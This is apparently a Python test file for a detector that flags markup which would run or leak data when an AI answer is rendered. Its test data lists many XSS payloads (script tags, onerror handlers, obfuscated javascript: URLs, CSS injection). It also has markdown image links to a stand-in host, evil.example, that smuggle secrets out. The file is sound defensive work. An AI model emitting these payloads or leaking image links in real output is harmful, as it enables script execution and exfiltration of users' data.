"""What would run, or carry data away, in a page that shows an answer, and what is only shown."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seawall.core.findings import Finding
from seawall.guards.markup import FINDINGS_MAX, LONGEST_TAG, MarkupScan, find_markup, may_continue

TELLING = "https://evil.example/p.png?q=the+secret+plan"
PLAIN = "https://images.example.com/cat.png"

RUNS = [
    ("script", "<script>alert(1)</script>"),
    ("script", "text <SCRIPT src=x>"),
    ("script", "<svg:script>"),
    ("event_handler", "<img src=x onerror=alert(1)>"),
    ("event_handler", "<svg/onload=alert(1)>"),
    ("event_handler", "<b\nonclick = 'x'>"),
    ("event_handler", "<img src=x onerror=alert(1)"),
    ("event_handler", "<x title='a>b' ONPOINTERENTER=y>"),
    ("event_handler", "a <y <img onerror=x>"),
    ("event_handler", '<a title="<img onerror=x>'),
    ("active_element", "<iframe src=x>"),
    ("active_element", "<object data=x>"),
    ("active_element", "<embed>"),
    ("active_element", "<base href=//x>"),
    ("active_element", '<meta http-equiv="refresh" content="0;url=//x">'),
    ("active_element", "<link rel=stylesheet href=x>"),
    ("active_element", '<form action="https://x">'),
    ("active_element", "<button formaction=x>"),
    ("active_element", "<style>a{}</style>"),
    ("active_element", "<p " + "a=1 " * 300 + ">"),
    ("style", '<p style="background:url(//x)">'),
    ("style", '<p style="width:expression(1)">'),
    ("style", '<p style="background:u\\72l(//x)">'),
    ("script_url", "[a](javascript:alert(1))"),
    ("script_url", "[a](JaVa\nscript:alert(1))"),
    ("script_url", "[a](java&Tab;script:alert(1))"),
    ("script_url", "[a](&#0000106;avascript:x)"),
    ("script_url", "[a](&#x6A;avascript:x)"),
    ("script_url", "[a](\x01javascript:x)"),
    ("script_url", "[a](<javascript:x>)"),
    ("script_url", "[a](" + "&#32;" * 100 + "javascript:x)"),
    ("script_url", "[x]: javascript:alert(1)"),
    ("script_url", "[a]:\n javascript:x\n"),
    ("script_url", '<a href="data:text/html;base64,xx">x</a>'),
    ("script_url", "<a href=vbscript:x>"),
    ("script_url", "<javascript:alert(1)>"),
    ("data_image", f"![a]({TELLING})"),
    ("data_image", f"![]({TELLING})"),
    ("data_image", f'<img src="{TELLING}">'),
    ("data_image", f"<img src='{TELLING}"),
    ("data_image", f"<video poster='{TELLING}'>"),
    ("data_image", f"<img srcset='{PLAIN} 1x, {TELLING} 2x'>"),
    ("data_image", f"[![a]({TELLING})](https://fine.example)"),
    ("data_image", "![a](https:\\\\evil.example/?q=secretwords)"),
    ("data_image", "![a](https://evil.example/SGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q.png)"),
    ("data_image", "![a](//evil.example/d41d8cd98f00b204e9800998ecf8427e)"),
    ("data_image", "![a](https://4a6f686e20536d697468206c69766573.evil.example/x.png)"),
    ("data_image", "![a](https://evil.example/My%20secret%20is%20forty%20two)"),
    ("data_image", "![a](https://images.example.com@evil.example/x.png)"),
    ("data_image", f"![a][b]\n\n[b]: {TELLING}\n"),
    ("data_image", f"[b]: {TELLING}\n\n![a][b]"),
    ("data_image", f"[b]: {TELLING}\n\n![B] there"),
    ("data_image", f"<div>\n```\n<img src={TELLING}>\n```\n</div>"),
    ("data_image", f"<!--\n\n```\n-->\n<img src={TELLING}>"),
    ("data_image", f"    ```\n<img src={TELLING}>\n"),
    ("data_image", f"- a\n\n  ```\n<img src={TELLING}>\n"),
    ("data_image", f"> ```\n\n<img src={TELLING}>\n"),
    ("data_image", f"```\n      ```\n```\n<img src={TELLING}>\n"),
    ("data_image", f"`a\n\n<img src={TELLING}>`"),
]

SHOWN = [
    "a < b and c > d",
    "if x <y and z> 3",
    "List<String> a = new Map<Integer, String>()",
    "```html\n<script>alert(1)</script>\n```\n",
    "```\n<script>",
    "~~~\n<script>\n~~~",
    "````md\n```html\n<script>\n```\n````",
    "`<script>` and ``a ` <script>``",
    "<b>Note</b>: use `<script>` here",
    "1. do\n   ```html\n   <script>\n   ```\n2. x",
    "- x\n\n    ```\n    <script>\n    ```",
    "> ```\n> <script>\n> ```",
    "<details>\n<summary>x</summary>\n\n```html\n<script>\n```\n</details>",
    "mention of javascript: in prose, and of onclick = too",
    "&lt;script&gt;",
    "[a](https://x.example/?q=a+b+c+d+e+f+g+long)",
    "[b]: https://x.example/?q=a+b+c+d+e+f\n\nsee [b]",
    "see [1]: the source",
    f"![cat]({PLAIN})",
    "![cat](https://images.example.com/photo-1506744038136-46273834b3fb?w=800&q=80)",
    "![x](https://e.example/my-lovely-photo-of-a-cat-in-the-sun.jpg)",
    "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAA)",
    "<b>bold</b> <br/> <p class='x'> <img src='cat.png'>",
    "mail <a@b.example> or <https://x.example/?q=javascript:>",
]

SCRAPS = st.lists(
    st.sampled_from(
        [
            "<", ">", "a", "img", "script", " ", "\n", "\n\n", "`", "```", "~~~", "![", "[", "]", "](", ")", "]: ",
            "onerror=", "=", '"', "'", "x", "javascript:", TELLING, "<!--", "-->", "<div>", "> ", "- ", "    ", "/",
            "&#x6a;", "<img src=", "\ud800", "\u200b", "<pre>", "</pre>", "![a](",
        ]
    )
).map("".join)  # fmt: skip


def in_pieces(text: str, size: int) -> list[Finding]:
    scan, found = MarkupScan(), list[Finding]()
    for start in range(0, len(text), size):
        found += scan.feed(text[start : start + size])
    return found + scan.end()


@pytest.mark.parametrize(("label", "text"), RUNS)
def test_markup_that_runs_or_tells_is_found(label: str, text: str) -> None:
    assert [each.label for each in find_markup(text)][:1] == [label]


@pytest.mark.parametrize("text", SHOWN)
def test_markup_that_is_only_shown_is_no_finding(text: str) -> None:
    assert find_markup(text) == []


@pytest.mark.parametrize("text", [text for _, text in RUNS if len(text) < LONGEST_TAG] + SHOWN)
@pytest.mark.parametrize("size", [1, 3, 7])
def test_pieces_tell_the_same_as_the_whole(text: str, size: int) -> None:
    assert in_pieces(text, size) == find_markup(text)


def test_finding_says_where_it_is() -> None:
    (found,) = find_markup("so <script>x")
    assert (found.detector, found.start, found.end) == ("markup", 3, 11)


def test_pictures_of_an_allowed_host_may_carry_data() -> None:
    assert find_markup(f"![a]({TELLING})", frozenset({"evil.example"})) == []
    assert find_markup(f"![a]({TELLING})", frozenset({"example"})) != []


@pytest.mark.parametrize(
    ("tail", "held"),
    [
        ("Hello there!", 0),
        ("see [the", 0),
        ("x <", 1),
        ("an ![a", 2),
        ("[x](http", 5),
        ("<img src", 8),
        ("", 0),
    ],
)
def test_only_what_may_become_a_finding_is_held(tail: str, held: int) -> None:
    assert may_continue(tail) == held


def test_a_tag_longer_than_the_hold_is_followed_to_its_handler() -> None:
    text = "<img alt='" + "a" * 3_000 + "' onerror=x>"
    assert [each.label for each in in_pieces(text, 5)] == ["event_handler"]


def test_a_long_picture_within_the_text_is_no_finding() -> None:
    assert in_pieces("<img src='data:image/png;base64," + "iVBORw0KGgo" * 400 + "'> and so on.", 9) == []


def test_a_text_of_nothing_but_marks_is_looked_at_to_its_end() -> None:
    assert find_markup("`a\n\n" * 10_000 + "<script>")[-1].label == "coarse"
    assert len(find_markup("<script>" * 10_000)) == FINDINGS_MAX


@given(SCRAPS)
def test_nothing_leaves_that_belongs_to_a_finding(text: str) -> None:
    scan, released = MarkupScan(), 0
    for index, piece in enumerate(text, start=1):
        for found in scan.feed(piece):
            assert found.start >= released or found.end > released
        released = max(released, index - scan.held())


@given(SCRAPS, st.integers(1, 9))
def test_any_pieces_find_something_just_where_the_whole_does(text: str, size: int) -> None:
    assert bool(in_pieces(text, size)) == bool(find_markup(text))


@given(st.text(alphabet=st.characters(), max_size=300))
def test_any_text_is_read(text: str) -> None:
    for found in find_markup(text):
        assert 0 <= found.start < found.end <= len(text)
    assert 0 <= may_continue(text) <= LONGEST_TAG
